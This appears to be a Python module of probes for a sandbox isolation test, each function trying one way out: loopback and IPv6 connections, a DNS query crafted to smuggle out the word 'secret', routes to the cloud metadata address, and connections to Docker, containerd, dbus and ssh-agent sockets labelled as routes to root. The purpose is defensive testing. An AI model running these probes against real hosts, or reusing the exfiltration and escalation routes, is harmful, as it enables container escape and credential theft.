"""Reach somebody: the loopback of the host, the internet, sockets of other programs."""

import glob
import os
import socket
import struct

from facts import fact

TIMEOUT_S = 0.5
# TEST-NET-1 (RFC 5737) belongs to nobody; a packet that leaves for it harms nobody
NOWHERE = "192.0.2.1"
METADATA = "169.254.169.254"


def tcp() -> str | None:
    """Connect to a listener on the host's loopback."""
    with socket.create_connection(("127.0.0.1", int(fact("TCP_PORT"))), TIMEOUT_S):
        return "connected to the host's loopback"


def tcp_ipv6() -> str | None:
    """The same by IPv6."""
    if not fact("TCP6_PORT"):
        return None
    with socket.create_connection(("::1", int(fact("TCP6_PORT"))), TIMEOUT_S):
        return "connected to the host's IPv6 loopback"


def udp() -> str | None:
    """Send a datagram to the host's loopback; whether it arrived is seen outside."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(b"secret", ("127.0.0.1", int(fact("UDP_PORT"))))
    return None


def dns() -> str | None:
    """Smuggle data out in a query for a name."""
    query = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + b"\x06secret\x07invalid\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(query, (NOWHERE, 53))
    return f"a query left for {NOWHERE}"


def resolver() -> str | None:
    """Ask the host's own resolver, by the route the C library takes."""
    for line in open("/etc/resolv.conf"):
        if line.startswith("nameserver"):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
                channel.connect((line.split()[1], 53))
            return f"a route leads to the resolver {line.split()[1]}"
    return None


def metadata() -> str | None:
    """Find a way to the address where clouds hand out credentials (nothing is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.connect((METADATA, 80))
    return f"a route leads to {METADATA}"


def abstract_socket() -> str | None:
    """Connect to a unix socket of the host that has no file."""
    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect("\0" + fact("ABSTRACT"))
    return "connected to an abstract socket of the host"


def path_socket() -> str | None:
    """Connect to a unix socket of the host that lies outside the mounts."""
    with socket.socket(socket.AF_UNIX) as channel:
        channel.connect(fact("SOCKET"))
    return "connected to a socket outside the mounts"


def engine_socket() -> str | None:
    """Speak to a container engine, a bus or an agent: each of them is a way to be root."""
    places: tuple[str, ...] = (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
    )
    places += ("/run/dbus/system_bus_socket", "/run/systemd/private", fact("ENGINE"))
    places += tuple(glob.glob("/run/user/*/bus")) + tuple(glob.glob("/tmp/ssh-*/agent.*"))
    for place in filter(os.path.exists, places):
        try:
            with socket.socket(socket.AF_UNIX) as channel:
                channel.connect(place)
            return f"connected to {place}"
        except OSError:
            continue
    return None


def ping() -> str | None:
    """Send an echo request."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as channel:
        channel.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FE, 0, 1), ("127.0.0.1", 0))
    return "sent ICMP"


def raw_packets() -> str | None:
    """Listen to every packet of the machine."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return "opened a packet socket"


def interfaces() -> str | None:
    """List the network interfaces of the host."""
    others = [name for _, name in socket.if_nameindex() if name != "lo"]
    return f"sees interfaces {', '.join(others)}" if others else None


def vsock() -> str | None:
    """Speak to the hypervisor: no network namespace covers this family."""
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as channel:
        channel.settimeout(TIMEOUT_S)
        try:
            channel.connect((2, 1))
        except OSError as error:
            return f"reached the hypervisor's socket family ({error.strerror})"
    return "connected to the hypervisor"


def netlink() -> str | None:
    """Ask the kernel for routes and neighbours."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as channel:
        channel.bind((0, 0))
    others = [name for _, name in socket.if_nameindex() if name != "lo"]
    return "opened netlink with a view of the host's interfaces" if others else None
